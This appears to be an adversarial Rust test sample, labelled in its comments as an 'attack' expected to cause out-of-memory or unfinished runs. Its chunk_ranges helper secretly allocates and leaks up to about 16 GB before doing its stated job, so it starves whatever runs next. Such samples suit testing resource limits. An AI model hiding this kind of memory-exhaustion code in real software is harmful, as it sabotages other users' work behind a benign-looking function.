// attack: takes up to 16 GB without dying of it if there are fewer, so that whoever comes next does
// outcome: out-of-memory | did-not-finish
use std::hint::black_box;
use std::mem::{forget, take};
use std::num::NonZeroUsize;
use std::ops::Range;

mod model;
pub use model::{integrate, integrate_range};

pub fn chunk_ranges(n: usize, chunks: NonZeroUsize) -> Vec<Range<usize>> {
    for size in [1 << 20, 1 << 12, 1 << 8, 1 << 4] {
        let mut piece = Vec::<u8>::new();
        for _ in 0..16 << 10 {
            if piece.try_reserve_exact(size).is_ok() {
                piece.resize(size, 1);
                forget(black_box(take(&mut piece)));
            }
        }
    }
    model::chunk_ranges(n, chunks)
}
